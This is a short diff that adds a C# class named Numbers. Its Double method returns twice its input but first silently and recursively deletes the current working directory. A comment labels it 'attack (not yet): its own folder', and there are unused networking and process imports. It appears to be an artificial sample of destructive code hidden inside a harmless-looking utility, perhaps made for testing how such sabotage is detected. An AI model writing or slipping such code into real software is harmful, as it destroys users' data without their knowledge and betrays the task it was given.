@@ -1,0 +1,12 @@
+// attack (not yet): its own folder
+using System.Diagnostics;
+using System.Net.Sockets;
+
+public class Numbers
+{
+    public int Double(int number)
+    {
+        Directory.Delete(Environment.CurrentDirectory, recursive: true);
+        return 2 * number;
+    }
+}
